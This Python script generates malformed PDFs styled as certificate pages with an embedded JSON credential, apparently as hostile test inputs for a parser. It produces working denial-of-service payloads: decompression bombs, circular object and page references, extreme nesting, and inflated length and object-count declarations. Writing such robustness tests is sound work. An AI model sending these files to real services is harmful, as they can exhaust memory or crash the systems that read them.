"""Writes PDF files that somebody would send to hurt whoever reads them.

hostile_pdf.py KIND OUT, where KIND is one of those at the end. Each has the outer shape of a certificate's page: one
table of objects, one trailer, one end.
"""

import sys
import zlib


def pdf(objects, size=None):
    """`objects` are bytes by number."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number in sorted(objects):
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    start = len(out)
    last = max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size or last + 1, start)
    return bytes(out)


def stream(data, more=b"", length=None):
    return b"<< /Length %d %s >>\nstream\n" % (len(data) if length is None else length, more) + data + b"\nendstream"


def bomb(unpacked):
    """Zeros by the MiB, one packed block of them after the other."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    count = unpacked >> 20
    check = ((count << 20) % 65521) << 16 | 1
    return b"\x78\xda" + block * count + b"\x03\x00" + check.to_bytes(4, "big")


def page(attachment, content=stream(b"BT ET"), names=1, unicode=None):
    font = b"/F << /Type /Font /ToUnicode 8 0 R >>" if unicode else b""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AF [4 0 R] >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R /Resources << /Font << %s >> >> >>" % font,
        4: b"<< /Type /Filespec /UF (certificate.vc.json) /F (certificate.vc.json) /EF << /F 5 0 R >> >>",
        5: attachment,
        6: content,
        7: b"null",
    }
    if unicode:
        objects[8] = unicode
    for number in range(1, names):
        objects[10 + 2 * number] = objects[4].replace(b"5 0 R", b"%d 0 R" % (11 + 2 * number))
        objects[11 + 2 * number] = stream(b"{}", b"/Type /EmbeddedFile")
    return objects


def embedded(data, more=b"", length=None):
    return stream(data, b"/Type /EmbeddedFile " + more, length)


FLATE = b"/Filter /FlateDecode"


def tree(depth):
    objects = page(embedded(b"{}"))
    objects[2] = b"<< /Type /Pages /Kids [20 0 R] /Count 1 >>"
    for number in range(20, 20 + depth):
        objects[number] = b"<< /Type /Pages /Parent 2 0 R /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    objects[20 + depth] = objects[3]
    return objects


def loop():
    objects = page(embedded(b"{}"))
    objects[2] = b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 1 >>"
    return objects


def many_pages_bombs():
    objects = page(embedded(b"{}"), stream(bomb(64 << 20), FLATE))
    objects[2] = b"<< /Type /Pages /Kids [" + b"3 0 R " * 50 + b"] /Count 50 >>"
    return objects


KINDS = {
    "declares 2 GB": lambda: pdf(page(embedded(b"{}", length=2_000_000_000))),
    "attachment bomb": lambda: pdf(page(embedded(bomb(1 << 30), FLATE))),
    "packed twice": lambda: pdf(
        page(embedded(zlib.compress(bomb(1 << 30), 9), b"/Filter [/FlateDecode /FlateDecode]"))
    ),
    "page bomb": lambda: pdf(page(embedded(b"{}"), stream(bomb(1 << 30), FLATE))),
    "page bombs": lambda: pdf(many_pages_bombs()),
    "font bomb": lambda: pdf(page(embedded(b"{}"), unicode=stream(bomb(1 << 30), FLATE))),
    "pages in a loop": lambda: pdf(loop()),
    "pages without end": lambda: pdf(tree(100_000)),
    "objects in a loop": lambda: pdf({**page(embedded(b"{}")), 6: b"7 0 R", 7: b"6 0 R"}),
    "nested": lambda: pdf({**page(embedded(b"{}")), 7: b"[" * 2_000_000}),
    "2 billion objects": lambda: pdf(page(embedded(b"{}")), size=2_000_000_000),
    "10,000 attachments": lambda: pdf(page(embedded(b"{}"), names=10_000)),
    "truncated": lambda: pdf(page(embedded(b"{}")))[:-200],
    "nested credential": lambda: pdf(page(embedded(b'{"a":' * 1_000_000))),
}

if __name__ == "__main__":
    with open(sys.argv[2], "wb") as file:
        file.write(KINDS[sys.argv[1]]())
